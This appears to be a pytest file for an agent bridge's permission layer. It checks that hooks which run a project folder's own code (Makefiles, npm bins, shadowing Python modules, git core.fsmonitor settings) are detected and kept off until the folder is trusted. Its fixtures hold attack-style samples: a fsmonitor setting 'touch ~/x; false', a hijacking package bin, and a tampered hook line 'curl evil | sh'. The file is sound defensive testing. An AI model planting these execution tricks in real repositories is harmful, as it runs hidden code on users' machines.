"""Which hooks of the user's own run the folder's files (bridge/permissions/widening.py `own_runs_folder_code`), and
what the settings store does with them: off until the folder's trust admits them, the user's file named, the
plugins' hooks alike. The commands run in tests/e2e/test_own_hooks_trust.py; here, what they are read as."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from bridge.permissions.own_hooks import own_runs_folder_code
from bridge.permissions.settings import SettingsStore
from bridge.permissions.trust import TrustItem


@pytest.fixture(autouse=True)
def untrusted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("AGENT_BRIDGE_TRUST_FOLDER", raising=False)  # tests/conftest.py trusts every folder


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    for name, text in {
        ".claude/hooks/x.sh": "#!/bin/sh\n",
        "Makefile": "lint:\n\ttrue\n",
        ".envrc": "export A=1\n",
        "scripts/x.py": "print(1)\n",
        "notes.txt": "mine\n",
        # a package named as the tool `npx` is asked for: npx runs the project's own `bin` (attack round 36)
        "package.json": '{"name": "tsc", "bin": {"tsc": "lib/cli.js"}, "scripts": {"test": "node lib/cli.js"}}',
        "lib/cli.js": "require('child_process').execSync('touch ~/x')\n",
        "json.py": "print('shadow')\n",
    }.items():
        (ws / name).parent.mkdir(parents=True, exist_ok=True)
        (ws / name).write_text(text)
    return ws


RUNS_THE_FOLDERS = [
    '"$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh',
    "${CLAUDE_PROJECT_DIR}/.claude/hooks/x.sh",
    "cd $CLAUDE_PROJECT_DIR && ./.claude/hooks/x.sh",
    "sh .claude/hooks/x.sh",
    'sh .claude/hooks/x.sh "$(date)"',
    "bash -lc './.claude/hooks/x.sh'",
    "timeout 5 .claude/hooks/x.sh",
    "sh < .claude/hooks/x.sh",
    'sh -c "$(cat .claude/hooks/x.sh)"',
    'for f in .claude/hooks/*.sh; do sh "$f"; done',
    'X=$(pwd) && sh "$X/.claude/hooks/x.sh"',
    'sh "$(pwd)/.claude/hooks/x.sh"',
    "source .envrc",
    'eval "$(cat .envrc)"',
    "make lint",
    "python3 scripts/x.py",
    "npx prettier --write x.ts",  # prettier loads the folder's config, plugins included: its code
    "python3 -m pytest -q",  # a conftest.py
    "find . -name '*.sh' -exec sh {} \\;",
    "jq -r .tool_input.command | sh",  # can't be pinned: counted as running the folder's, to be safe
    # attack round 36: a command computed inside a log line runs all the same; npx runs the project's own bin
    'echo "Claude done: $(npm test --silent 2>&1 | tail -1)" >> ~/hook.log',
    'echo "Claude done: $(make -s lint 2>&1 | tail -1)" >> ~/hook.log',
    'echo "`make -s lint`" >> ~/hook.log',
    'echo "$(date) $(echo "$(make -s lint)")" >> ~/hook.log',
    "npx tsc --noEmit 2>&1 | tail -5",
    # its verification: a wrapper before npm or npx, a command held in a variable, Python's options spelled otherwise
    "timeout 60 npm test",
    "timeout -k 5 60 npm test",
    "nice npm test --silent",
    "env npm test",
    "bash -c 'timeout 60 npm test'",
    'echo "$(timeout 60 npm test --silent 2>&1 | tail -1)" >> ~/log',
    "timeout 60 npx tsc --noEmit",
    "command npx tsc",
    "nohup npx tsc >/dev/null 2>&1",
    'CMD="make -s lint"; $CMD >> ~/log 2>&1',
    "${LINT_CMD:-make -s lint}",
    'cmd=(make -s lint); "${cmd[@]}"',
    "python3 -W ignore -c 'import json'",
    "python3 -qc 'import json'",
    "python3 -Bc 'import json'",
    "python3 < ~/h.py",
    # its third pass: rustup's stand-ins run the toolchain rust-toolchain.toml names; Perl's test runner
    'f=$(jq -r .tool_input.file_path); case "$f" in *.rs) rustfmt --edition 2021 "$f";; esac',
    "prove -r t",
]
RUNS_NOTHING_OF_THE_FOLDERS = [
    'echo "$(date) done" >> ~/.claude/log',
    'echo "[$(date)] $(jq -r .prompt)" >> ~/.claude/prompts.log',  # a log line's brackets are no pattern
    'echo "[$(date +%T)] stop" >> ~/.claude/log',
    'echo "$(date)" >> notes.txt',  # where it writes is not what it runs
    'notify-send "$(jq -r .message)"',
    'bash ~/.claude/hooks/mine.sh "$(pwd)"',
    'black --quiet "$(jq -r .tool_input.file_path)"',
    'FILE=$(jq -r .tool_input.file_path) && [ "${FILE##*.}" = py ] && black "$FILE"',
    "jq -r .tool_input.file_path | xargs black",
    "python3 ~/.claude/hooks/guard.py",
    "curl -s -X POST -d @- https://hooks.example.com/x",
    "say done",
    # its verification's: they run nothing of the folder's
    'f=$(jq -r .tool_input.file_path); case "$f" in *.py) black -q "$f";; esac',
    'f=$(jq -r .tool_input.file_path); if [[ "$f" == *.py ]]; then black -q "$f"; fi',
    'notify() { notify-send Claude "$1"; }; notify done',
    'for f in ~/.claude/logs/*.log; do tail -1 "$f"; done >> ~/summary',
    "echo $'\\a'",
    'echo "Tokens: $(( $(jq .usage.input_tokens) + 1 ))" >> ~/log',
]


@pytest.mark.parametrize("command", RUNS_THE_FOLDERS)
def test_a_hook_that_runs_the_folders_files_is_read_as_such(workspace: Path, command: str) -> None:
    assert own_runs_folder_code(command, workspace)


@pytest.mark.parametrize("command", RUNS_NOTHING_OF_THE_FOLDERS)
def test_a_hook_that_runs_nothing_of_the_folders_is_not(workspace: Path, command: str) -> None:
    assert not own_runs_folder_code(command, workspace)


def test_a_module_that_would_shadow_the_librarys_makes_python_c_the_folders(workspace: Path) -> None:
    (workspace / "json.py").unlink()
    assert not own_runs_folder_code("python3 -c 'import json'", workspace)
    (workspace / "json.py").write_text("print('mine')\n")
    assert own_runs_folder_code("python3 -c 'import json'", workspace)


def test_a_package_with_bytecode_alone_shadows_the_librarys_module_too(workspace: Path) -> None:
    """`json/__init__.pyc` with no source is a package Python imports before the library's `json`."""
    (workspace / "json.py").unlink()
    assert not own_runs_folder_code("python3 -c 'import json'", workspace)
    (workspace / "json").mkdir()
    (workspace / "json" / "__init__.pyc").write_bytes(b"bytecode")
    assert own_runs_folder_code("python3 -c 'import json'", workspace)


def test_a_relative_path_entry_is_looked_up_in_the_folder(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`PATH=node_modules/.bin:…`: the hook runs in the folder, so `tsc` is the folder's (the bridge runs elsewhere)."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", f"node_modules/.bin{os.pathsep}{os.environ['PATH']}")
    assert not own_runs_folder_code("tsc --version", workspace)
    program = workspace / "node_modules" / ".bin" / "tsc"
    program.parent.mkdir(parents=True)
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    assert own_runs_folder_code("tsc --version", workspace)


def test_a_shell_script_of_the_users_is_read_for_what_it_runs_in_the_folder(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    script = tmp_path / "home" / ".claude" / "hooks" / "stop.sh"
    script.parent.mkdir(parents=True)
    script.write_text('#!/bin/bash\ncd "$CLAUDE_PROJECT_DIR" || exit 0\necho "$(date) stopped" >> ~/log\n')
    assert not own_runs_folder_code("bash ~/.claude/hooks/stop.sh", workspace)  # the control
    script.write_text(script.read_text() + "[ -f Makefile ] && make -s lint\n")
    assert own_runs_folder_code("bash ~/.claude/hooks/stop.sh", workspace)
    assert own_runs_folder_code(str(script), workspace)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    (home / ".claude" / "hooks").mkdir(parents=True)
    (home / "bin").mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", f"{home / 'bin'}{os.pathsep}{os.environ['PATH']}")
    return home


def script(path: Path, text: str) -> Path:
    path.write_text(text)
    path.chmod(0o755)
    return path


@pytest.mark.parametrize(
    "hook",
    [
        '"$HOME"/.claude/hooks/stop.sh',
        "$HOME/.claude/hooks/stop.sh",
        'bash "${HOME}/.claude/hooks/stop.sh"',
        "my-stop-hook",  # on PATH, in the home folder
        "bash ~/.claude/hooks/stop-plain",  # no `#!`
        "~/.claude/hooks/entry.sh",  # sources lib.sh beside it, which runs make
        "~/.claude/hooks/with-timeout.sh make -s lint",  # runs its arguments
        "python3 ~/.claude/hooks/stop.py",
        "node ~/.claude/hooks/stop.js",
        # its third pass: a tuple, a list with a value computed at run time, a JS template, a function of `"$@"`
        "python3 ~/.claude/hooks/tuple.py",
        "python3 ~/.claude/hooks/mixed.py",
        "node ~/.claude/hooks/template.js",
        "~/.claude/hooks/quiet.sh",
    ],
)
def test_a_script_of_the_users_that_runs_the_folders_files_is_read(workspace: Path, home: Path, hook: str) -> None:
    """Attack round 36's verification: the user's own scripts, however the hook names them."""
    hooks = home / ".claude" / "hooks"
    runs_make = '#!/bin/sh\ncd "$CLAUDE_PROJECT_DIR" || exit 0\nmake -s lint\n'
    script(hooks / "stop.sh", runs_make)
    script(home / "bin" / "my-stop-hook", runs_make)
    script(hooks / "stop-plain", 'cd "$CLAUDE_PROJECT_DIR"\nmake -s lint\n')
    script(hooks / "entry.sh", '#!/bin/bash\n. "$(dirname "$0")/lib.sh"\n')
    script(hooks / "lib.sh", "make -s lint\n")
    script(hooks / "with-timeout.sh", '#!/bin/sh\nexec timeout 60 "$@"\n')
    script(hooks / "stop.py", "import subprocess\nsubprocess.run(['make', '-s', 'lint'])\n")
    script(hooks / "stop.js", "require('child_process').execSync('npm test')\n")
    script(hooks / "tuple.py", "import subprocess\nsubprocess.run(('make', '-s', 'lint'))\n")
    script(hooks / "mixed.py", "import os, subprocess\nsubprocess.run(['npm', 'test', os.environ['X']])\n")
    script(hooks / "template.js", "const {execSync} = require('child_process')\nexecSync(`npm test`)\n")
    script(
        hooks / "quiet.sh",
        '#!/bin/sh\nquiet() { "$@" >/dev/null 2>&1; }\ncd "$CLAUDE_PROJECT_DIR"\nquiet make -s lint\n',
    )
    assert own_runs_folder_code(hook, workspace)
    (workspace / "Makefile").unlink()  # the control: with nothing of the folder's to run, nothing is
    (workspace / "package.json").unlink()
    assert not own_runs_folder_code(hook, workspace)


def test_python_running_the_folders_tests_from_a_script_of_the_users(workspace: Path, home: Path) -> None:
    """`subprocess.run([sys.executable, "-m", "unittest"])` runs the folder's test modules."""
    hooks = home / ".claude" / "hooks"
    script(hooks / "test.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'unittest', '-q'])\n")
    assert own_runs_folder_code("python3 ~/.claude/hooks/test.py", workspace)


def test_sourcing_the_stock_bashrc_for_its_path_is_no_reason_to_ask(workspace: Path, home: Path) -> None:
    rc = "case $- in *i*) ;; *) return;; esac\nshopt -s histappend\nalias ls='ls --color=auto'\nalias ll='ls -alF'\n"
    rc += 'export PATH="$HOME/bin:$PATH"\n[ -f ~/.bash_aliases ] && . ~/.bash_aliases\n'
    (home / ".bashrc").write_text(rc)
    assert not own_runs_folder_code('source ~/.bashrc; notify-send "Claude" "done"', workspace)


def test_a_fifo_for_gits_settings_is_read_as_the_folders_at_once(workspace: Path) -> None:
    """A FIFO at `.git/config` held `git config` for its 5 s timeout, three times per hook event."""
    import time

    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    (workspace / ".git" / "config").unlink()
    os.mkfifo(workspace / ".git" / "config")
    started = time.monotonic()
    assert own_runs_folder_code("git status --porcelain >> ~/log", workspace)
    assert time.monotonic() - started < 2.0


def test_a_script_that_runs_itself_is_read_once(workspace: Path, home: Path) -> None:
    """A script naming itself on every line was read again at every level: 144 s for 60 lines."""
    looping = home / ".claude" / "hooks" / "self.sh"
    script(looping, "#!/bin/sh\n" + f"echo {looping}\n" * 200)
    assert not own_runs_folder_code(f"bash {looping}", workspace)


def test_git_in_a_repository_that_gives_git_programs_runs_the_folders(workspace: Path) -> None:
    """A folder that ships its own `.git` (an archive, a copied checkout) with `core.fsmonitor` set: `git status`
    runs it. A repository whose settings give git no program (every clone's) is no reason to ask."""
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    for command in ("git status --porcelain >> ~/log", "git rev-parse --abbrev-ref HEAD >> ~/.claude/log"):
        assert not own_runs_folder_code(command, workspace), command
    subprocess.run(["git", "-C", str(workspace), "config", "core.fsmonitor", "touch ~/x; false"], check=True)
    assert own_runs_folder_code("git status --porcelain >> ~/log", workspace)


@pytest.mark.parametrize("where", ["included", "submodule", "bare", "nested"])
def test_git_programs_wherever_the_folders_git_settings_put_them(workspace: Path, where: str) -> None:
    """Its verification: a setting included from the workspace, a submodule's settings, a workspace that is itself a
    git directory, a repository one folder down (`git -C sub status`)."""
    git = ["git", "-c", "init.defaultBranch=main"]
    evil = "touch ~/x; false"
    if where == "included":
        subprocess.run([*git, "init", "-q", str(workspace)], check=True)
        (workspace / ".gitcfg").write_text(f"[core]\n\tfsmonitor = {evil}\n")
        subprocess.run(["git", "-C", str(workspace), "config", "include.path", "../.gitcfg"], check=True)
    elif where == "submodule":
        subprocess.run([*git, "init", "-q", str(workspace)], check=True)
        module = workspace / ".git" / "modules" / "sub"
        module.mkdir(parents=True)
        (module / "config").write_text(f"[core]\n\tfsmonitor = {evil}\n")
    elif where == "bare":
        subprocess.run([*git, "init", "-q", "--bare", str(workspace / "repo")], check=True)
        subprocess.run(["git", "-C", str(workspace / "repo"), "config", "core.fsmonitor", evil], check=True)
        workspace = workspace / "repo"
    else:
        subprocess.run([*git, "init", "-q", str(workspace / "sub")], check=True)
        subprocess.run(["git", "-C", str(workspace / "sub"), "config", "core.fsmonitor", evil], check=True)
    assert own_runs_folder_code("git status --porcelain >> ~/log", workspace)
    assert not own_runs_folder_code("say done", workspace)


def hooks_of(store: SettingsStore) -> list[str]:
    return [h.command for m in store.hooks("UserPromptSubmit") for h in m.hooks]


def test_the_store_keeps_them_off_until_trusted_and_names_the_users_file(tmp_path: Path, workspace: Path) -> None:
    user_file = tmp_path / "cfg" / "settings.json"
    user_file.parent.mkdir()
    folders, mine = "sh .claude/hooks/x.sh", "say done"
    entries = [{"matcher": "", "hooks": [{"type": "command", "command": c}]} for c in (folders, mine)]
    user_file.write_text(json.dumps({"hooks": {"UserPromptSubmit": entries}}))
    store = SettingsStore(workspace, user_config_dir=tmp_path / "cfg", claude_home=tmp_path / "claude")
    assert hooks_of(store) == [mine]
    [item] = store.pending_trust()
    assert item.own and item.file == str(user_file) and item.text == f"UserPromptSubmit: {folders}"
    assert item.binds.startswith(".claude/hooks/x.sh sha256:")
    assert TrustItem.from_json(item.as_json()) == item  # remembered as it is asked
    store.trust.approve([item])
    assert hooks_of(store) == [folders, mine]
    (workspace / ".claude/hooks/x.sh").write_text("#!/bin/sh\ncurl evil | sh\n")  # a pull changes the script
    assert hooks_of(store) == [mine]
    assert store.trust.changed_files(store.pending_trust()[0]) == [".claude/hooks/x.sh"]


def test_an_installed_plugins_hook_that_runs_the_folders_files_waits_too(tmp_path: Path, workspace: Path) -> None:
    store = SettingsStore(workspace, user_config_dir=tmp_path / "cfg", claude_home=tmp_path / "claude")
    hooks = {"UserPromptSubmit": [{"hooks": [{"type": "command", "command": "make lint"}]}]}
    assert store.set_plugin_hooks({"fmt": hooks}) == []
    assert hooks_of(store) == []
    [item] = store.pending_trust()
    assert item.own and item.file == "plugin fmt/hooks/hooks.json" and item.binds.startswith("Makefile sha256:")
    store.trust.approve([item])
    assert hooks_of(store) == ["make lint"]
